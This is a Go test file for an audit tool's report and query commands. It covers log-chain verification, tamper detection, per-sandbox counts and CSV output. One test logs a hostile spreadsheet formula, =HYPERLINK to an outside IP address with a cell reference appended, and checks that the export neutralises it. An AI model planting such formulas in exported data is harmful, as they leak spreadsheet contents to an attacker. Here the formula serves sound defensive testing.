package main

import (
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/airlock-dev/airlock/audit"
	"github.com/airlock-dev/airlock/audit/report"
	"github.com/airlock-dev/airlock/audit/report/reporttest"
)

func TestAuditReportCmd(t *testing.T) {
	dir := t.TempDir()
	fx := reporttest.Write(t, dir)
	page := filepath.Join(dir, "report.html")
	if _, err := runAudit(t, "report", fx.Log, "--out", page, "--pubkey", fx.PubKey); err != nil {
		t.Fatalf("report: %v", err)
	}
	html, err := os.ReadFile(page)
	if err != nil {
		t.Fatal(err)
	}
	if st, _ := os.Stat(page); st.Mode().Perm() != 0o600 {
		t.Errorf("report mode: got %v, want 0600 like the log", st.Mode().Perm())
	}
	out, err := runAudit(t, "report", fx.Log, "--format", "json", "--pubkey", fx.PubKey, "--sandbox", "sb-agent")
	if err != nil {
		t.Fatalf("report --format json: %v", err)
	}
	var rep report.Report
	if err := json.Unmarshal([]byte(out), &rep); err != nil {
		t.Fatalf("report json: %v\n%s", err, out)
	}
	wantAgent := report.Counts{Allowed: 2, Denied: 72, BytesUp: 3100, BytesDown: 17000}
	if !rep.Verification.OK || !rep.Verification.SignaturesChecked || rep.Totals != wantAgent || len(rep.Sandboxes) != 1 {
		t.Errorf("--sandbox sb-agent: got verification %+v, totals %+v, %d sandboxes; want ok and signed, %+v, 1", rep.Verification, rep.Totals, len(rep.Sandboxes), wantAgent)
	}
	if !strings.Contains(string(html), `data-ok="true" data-signatures="true"`) {
		t.Errorf("the page does not say the chain and signatures verified")
	}

	out, err = runAudit(t, "report", fx.Log, "--format", "json")
	if err != nil || !strings.Contains(out, `"signatures_checked":false`) || !strings.Contains(out, "no public key given") {
		t.Errorf("without --pubkey: got %v and %.200s, want the report saying signatures were not checked", err, out)
	}
	for _, tc := range []struct {
		name string
		args []string
	}{
		{"bad format", []string{"report", fx.Log, "--format", "pdf"}},
		{"bad since", []string{"report", fx.Log, "--since", "yesterday"}},
		{"missing file", []string{"report", filepath.Join(dir, "nope.jsonl")}},
		{"no files", []string{"report"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if _, err := runAudit(t, tc.args...); err == nil {
				t.Fatalf("got no error, want one")
			}
		})
	}
}

// TestAuditReportBrokenChain: a tampered log still gets a report, which
// opens with the failure naming the line.
func TestAuditReportBrokenChain(t *testing.T) {
	dir := t.TempDir()
	fx := reporttest.Write(t, dir)
	b, _ := os.ReadFile(fx.Log)
	lines := strings.SplitAfter(string(b), "\n")
	lines[3] = strings.Replace(lines[3], `"decision":"allow"`, `"decision":"deny"`, 1)
	if err := os.WriteFile(fx.Log, []byte(strings.Join(lines, "")), 0o600); err != nil {
		t.Fatal(err)
	}
	out, err := runAudit(t, "report", fx.Log, "--pubkey", fx.PubKey)
	if err != nil {
		t.Fatalf("report: %v", err)
	}
	if !strings.Contains(out, `data-ok="false"`) || !strings.Contains(out, "Verification FAILED") || !strings.Contains(out, "audit.jsonl:5: prev mismatch") {
		t.Errorf("the page does not open with the failure at line 5")
	}
}

func TestAuditQueryBy(t *testing.T) {
	fx := reporttest.Write(t, t.TempDir())
	out, err := runAudit(t, "query", "--file", fx.Log, "--by", "sandbox")
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	want := [][]string{
		{"SANDBOX", "ALLOWED", "DENIED", "WOULD", "DENY", "ERRORS", "BYTES", "UP", "BYTES", "DOWN"},
		{"sb-scraper", "1", "100", "0", "1", "100", "2000"},
		{"sb-agent", "2", "72", "0", "0", "3100", "17000"},
		{"sb-build", "4", "2", "0", "0", "2700", "155000"},
	}
	if len(lines) != len(want) {
		t.Fatalf("got %q, want %d lines", out, len(want))
	}
	for i, w := range want {
		if got := strings.Join(strings.Fields(lines[i]), " "); got != strings.Join(w, " ") {
			t.Errorf("line %d: got %q, want %q", i, got, strings.Join(w, " "))
		}
	}
	out, err = runAudit(t, "query", "--file", fx.Log, "--by", "reason", "--format", "csv", "--sandbox", "sb-scraper")
	if err != nil {
		t.Fatal(err)
	}
	if want := "reason,allowed,denied,would_deny,errors,bytes_up,bytes_down\naudit_summary,0,100,0,0,0,0\nallowlist,1,0,0,0,100,2000\nupstream_error,0,0,0,1,0,0\n"; out != want {
		t.Errorf("--by reason --format csv: got %q, want %q", out, want)
	}
	if _, err := runAudit(t, "query", "--file", fx.Log, "--by", "path"); exitCode(err) != 2 || !strings.Contains(err.Error(), `"path"`) {
		t.Errorf("--by path: got %v, want exit 2 naming it", err)
	}
}

// TestAuditQueryCSVFormulas: a logged value that a spreadsheet would run as a
// formula is written as text.
func TestAuditQueryCSVFormulas(t *testing.T) {
	dir := t.TempDir()
	logPath := filepath.Join(dir, "audit.jsonl")
	w, err := audit.New(audit.Config{File: logPath}, nil)
	if err != nil {
		t.Fatal(err)
	}
	hostile := `=HYPERLINK("http://198.18.0.1/?"&A1,"x")`
	for _, r := range []audit.Record{
		{Sandbox: "sb-1", Kind: audit.KindHTTP, Decision: audit.DecisionDeny, Host: "pypi.org", Port: 443, Method: "GET", Path: "/a,b", Reasons: []audit.Reason{{ID: "r1"}}},
		{Sandbox: "sb-1", Kind: audit.KindHTTP, Decision: audit.DecisionError, Host: "x.example", Error: hostile},
		{Sandbox: "@sb", Kind: audit.KindHTTP, Decision: audit.DecisionAllow, Host: "y.example", BytesUp: 5},
	} {
		if err := w.Log(&r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	out, err := runAudit(t, "query", "--file", logPath, "--format", "csv")
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("csv: %v\n%s", err, out)
	}
	if len(rows) != 4 || strings.Join(rows[0], ",") != strings.Join(queryCSVHeader, ",") {
		t.Fatalf("got %q, want the header and 3 rows", rows)
	}
	if got := rows[1][6]; got != "GET /a,b" {
		t.Errorf("request with a comma: got %q, want %q", got, "GET /a,b")
	}
	if got := rows[2][8]; got != "'"+hostile {
		t.Errorf("formula in a logged error: got %q, want it prefixed with '", got)
	}
	if got, want := rows[3][2], "'@sb"; got != want {
		t.Errorf("sandbox starting with @: got %q, want %q", got, want)
	}
	if got := rows[3][9]; got != "5" {
		t.Errorf("bytes_up: got %q, want 5", got)
	}
}

// TestReadmeAuditReportExamples runs the documents' audit report and query --by
// lines for real against the fixture log (test/readme only parses flags).
func TestReadmeAuditReportExamples(t *testing.T) {
	readme := docsText(t)
	dir := t.TempDir()
	fx := reporttest.Write(t, dir)
	ran := 0
	for _, line := range strings.Split(readme, "\n") {
		line, _, _ = strings.Cut(line, "#")
		if !strings.HasPrefix(line, "airlock audit report ") && !(strings.HasPrefix(line, "airlock audit query ") && strings.Contains(line, " --by ")) {
			continue
		}
		r := strings.NewReplacer("/var/log/airlock/audit.jsonl", fx.Log, "audit.pub", fx.PubKey, "report.html", filepath.Join(dir, "report.html"))
		args := strings.Fields(r.Replace(line))[2:]
		out, err := runAudit(t, args...)
		if err != nil {
			t.Fatalf("README: %s: %v", line, err)
		}
		ran++
		switch args[0] {
		case "report":
			page, err := os.ReadFile(filepath.Join(dir, "report.html"))
			if err != nil || !strings.Contains(string(page), `data-ok="true" data-signatures="true"`) {
				t.Errorf("README: %s: got a page of %d bytes (%v), want one with the chain and signatures verified", line, len(page), err)
			}
		case "query":
			if !strings.HasPrefix(out, "host,allowed,denied,would_deny,errors,bytes_up,bytes_down\n") || !strings.Contains(out, "\npastebin.com:443,0,2,0,0,0,0\n") {
				t.Errorf("README: %s: got %q, want the CSV by host with pastebin.com:443 denied twice", line, out)
			}
		}
	}
	if ran != 2 {
		t.Fatalf("ran %d README audit report/query --by lines, want 2", ran)
	}
}
